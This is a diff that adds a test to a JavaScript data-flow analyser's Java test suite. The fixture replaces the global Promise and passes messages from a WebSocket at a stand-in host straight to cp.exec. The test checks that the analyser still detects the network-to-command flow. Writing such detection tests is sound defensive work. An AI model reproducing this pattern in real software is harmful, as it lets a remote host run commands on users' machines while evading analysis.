@@ -141,6 +141,26 @@ class StreamsAndPromisesTest {
         assertThat(analysis.flowNames()).containsExactly("network-response -> process-command");
     }
 
+    /** As libraries do that follow who waits for whom, and stand-ins for old engines. */
+    @Test
+    void followsPromisesThoughTheProgramReplacesThem() {
+        Analysis analysis = Analysis.ofActivate("""
+                const Native = global.Promise;
+                function Wrapped(executor) {
+                  const promise = new Native((resolve, reject) => hooks[executor.name](resolve, reject));
+                  promise.__proto__ = Wrapped.prototype;
+                  return promise;
+                }
+                global.Promise = Wrapped;
+                let done;
+                const next = () => new Promise(resolve => { done = resolve; });
+                (async () => cp.exec(await next()))();
+                new WebSocket('wss://orders.example').onmessage = event => done(event.data);
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("network-response -> process-command");
+    }
+
     @Test
     void sendsAListThatEventsHaveFilled() {
         Analysis analysis = Analysis.ofActivate("""
